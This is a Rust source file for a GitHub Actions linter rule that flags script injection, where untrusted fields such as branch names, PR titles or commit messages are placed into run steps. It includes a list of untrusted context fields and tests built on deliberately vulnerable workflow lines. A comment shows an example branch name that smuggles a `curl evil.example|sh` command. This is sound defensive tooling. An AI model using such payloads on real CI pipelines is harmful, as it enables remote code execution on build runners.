//! Texts of strangers that become part of a script.

use crate::{
    catalog::reference,
    expr::{Expr, Kind},
    lint::{Findings, Rule, Severity, keyed::Keyed},
    text::msg,
    workflow::{Node, Workflow, input, is_of_action},
};

/// GitHub puts the value into the script before the shell reads it, so a branch called
/// `a";curl evil.example|sh;"` is run.
pub(super) static RULE: Rule = Rule {
    id: "script-injection",
    severity: Severity::Error,
    title: msg::WRITTEN_SCRIPT_INJECTION_TITLE,
    source: reference("https://docs.github.com/en/actions/concepts/security/script-injections"),
    check,
};

/// What anybody can write. Source: GitHub docs, "Script injections", and securitylab.github.com,
/// "Untrusted input".
pub(super) const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.commits.message",
    "github.event.commits.author.email",
    "github.event.commits.author.name",
    "github.event.commits.committer.email",
    "github.event.commits.committer.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.merge_group.head_commit.message",
    "github.event.merge_group.head_commit.author.email",
    "github.event.merge_group.head_commit.author.name",
    "github.event.changes.title.from",
    "github.event.changes.body.from",
    "github.event.pages.page_name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.display_title",
];

fn check(_: &Workflow, findings: &mut Findings) {
    for keyed in &findings.texts().all {
        if keyed.step.is_some_and(|it| is_script(it, keyed.node)) {
            judge(keyed, findings);
        }
    }
}

/// Actions and the input that they run as a script. Source: their `action.yml`; zizmor 1.32, audit
/// template-injection, lists more.
const SCRIPTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("nick-fields/retry", "command"),
];

/// Whether the runner hands a value of a step to a shell or to Node.
pub(super) fn is_script(step: &Node, node: &Node) -> bool {
    let is = |it: Option<&Node>| it.is_some_and(|it| std::ptr::eq(it, node));
    let uses = step.get("uses").and_then(Node::as_text).unwrap_or_default();
    is(step.get("run"))
        || SCRIPTS.iter().any(|(action, name)| is_of_action(uses, action) && is(input(step, name)))
}

fn judge(keyed: &Keyed<'_>, findings: &mut Findings) {
    for expr in keyed.whole() {
        let mut found = Vec::new();
        untrusted(expr, &mut found);
        for Found { span, name, is_part } in found {
            let message = match is_part {
                true => msg::written_script_injection_part(name),
                false => msg::written_script_injection_says(name),
            };
            findings.span(keyed.part(&span), keyed.node.place, message);
        }
    }
}

struct Found {
    span: std::ops::Range<usize>,
    name: String,
    /// It is one of many things that come along.
    is_part: bool,
}

/// The parts of an expression that hand on what a stranger wrote. A comparison hands on yes or no.
fn untrusted(expr: &Expr, found: &mut Vec<Found>) {
    let mut add = |steps: Vec<String>, is_part| {
        found.push(Found { span: expr.span.clone(), name: steps.join("."), is_part });
    };
    match &expr.kind {
        Kind::Compare(..) | Kind::Not(_) => return,
        Kind::Call(name, _) if SAFE.iter().any(|it| it.eq_ignore_ascii_case(name)) => return,
        _ => {}
    }
    if let Some(steps) = steps(expr)
        && UNTRUSTED.iter().any(|it| leads_to(&steps, it))
    {
        return add(steps, false);
    }
    // As JSON, everything below comes along.
    if let Kind::Call(name, args) = &expr.kind
        && name.eq_ignore_ascii_case("toJSON")
        && let Some(steps) = args.first().and_then(steps)
        && UNTRUSTED.iter().any(|it| holds(&steps, it))
    {
        return add(steps, true);
    }
    expr.parts(&mut |it| untrusted(it, found));
}

/// The steps to a value; a filter is a `*`, and which item of a list does not count.
fn steps(expr: &Expr) -> Option<Vec<String>> {
    match &expr.kind {
        Kind::Context(name) => Some(vec![name.clone()]),
        Kind::Filter(of) => Some([steps(of)?, vec!["*".to_owned()]].concat()),
        Kind::Index(of, by) => {
            let mut res = steps(of)?;
            if let Kind::Literal(crate::expr::Value::Text(it)) = &by.kind {
                res.push(it.clone());
            }
            Some(res)
        }
        _ => None,
    }
}

/// Whether steps lead to a path. A `*` stands for the items of a list, which a path does not name, or
/// for any one property.
fn leads_to(steps: &[String], path: &str) -> bool {
    match steps.split_first() {
        None => path.is_empty(),
        Some((first, rest)) if first == "*" => {
            leads_to(rest, path) || !path.is_empty() && leads_to(rest, after(path))
        }
        Some((first, rest)) => {
            !path.is_empty()
                && first.eq_ignore_ascii_case(head(path))
                && leads_to(rest, after(path))
        }
    }
}

/// Whether a path goes on below what steps lead to.
fn holds(steps: &[String], path: &str) -> bool {
    let ends = path.match_indices('.').map(|it| &path[..it.0]);
    ends.into_iter().any(|it| leads_to(steps, it))
}

fn head(path: &str) -> &str {
    path.split('.').next().unwrap_or_default()
}

fn after(path: &str) -> &str {
    path.split_once('.').map_or("", |it| it.1)
}

/// Functions of which nothing but a truth or a hash comes out.
pub(super) const SAFE: &[&str] = &["contains", "startsWith", "endsWith", "hashFiles"];

/// The properties that lead to a value; which item of a list does not count.
pub(super) fn path(expr: &Expr) -> Option<String> {
    match &expr.kind {
        Kind::Filter(of) => path(of),
        Kind::Index(of, by) => match &by.kind {
            Kind::Literal(crate::expr::Value::Text(it)) => Some(format!("{}.{it}", path(of)?)),
            _ => path(of),
        },
        _ => expr.path(),
    }
}

#[cfg(test)]
mod tests {
    use expect_test::expect;

    use super::RULE;
    use crate::lint::rules::check_steps;

    #[test]
    fn what_strangers_write() {
        let steps = "- run: docker build -t app:${{ github.head_ref }} .
- run: |
    echo fine
    echo \"${{ github.event.pull_request.title }}\" '${{ github.event.commits[0].message }}'
- run: echo ${{ contains(github.event.comment.body, '/publish') }} ${{ github.head_ref == 'a' }}
- run: echo ${{ format('{0}', github['head_ref']) }}
- {run: 'echo \"$REF\"', env: {REF: '${{ github.head_ref }}'}}
- {uses: actions/github-script@v8, with: {script: 'f(\"${{ github.event.issue.title }}\")'}}
- {uses: actions/checkout@v7, with: {ref: '${{ github.head_ref }}'}}";
        check_steps(
            &RULE,
            steps,
            expect![[r#"
            5 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.head_ref`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            8 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.event.pull_request.title`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            8 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.event.commits.message`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            10 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.head_ref`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            12 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.event.issue.title`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
        "#]],
        );
    }

    #[test]
    fn many_at_once() {
        let steps = "- run: echo ${{ toJSON(github.event.*.body) }} ${{ join(github.event.commits.*.message, ' ') }}
- run: echo ${{ toJSON(github.event) }} ${{ toJson(github.event.pull_request.head) }}
- run: echo ${{ github.event.*.number }} ${{ toJSON(github.event.pull_request.labels) }}
- run: echo ${{ toJSON(steps) }} ${{ toJSON(github.event.issue.number) }} ${{ github['event']['issue'].title }}
- run: echo ${{ github.event.commits.*.author.name }} ${{ github.event.issue.*.title }}";
        check_steps(
            &RULE,
            steps,
            expect![[r#"
                5 error: `github.event.*.body` holds text from whoever opens a pull request or an issue, or creates a branch, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
                5 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.event.commits.*.message`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
                6 error: `github.event` holds text from whoever opens a pull request or an issue, or creates a branch, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
                6 error: `github.event.pull_request.head` holds text from whoever opens a pull request or an issue, or creates a branch, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
                8 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.event.issue.title`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
                9 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.event.commits.*.author.name`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
                9 error: Whoever opens a pull request or an issue, or creates a branch, chooses `github.event.issue.*.title`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            "#]],
        );
    }
}
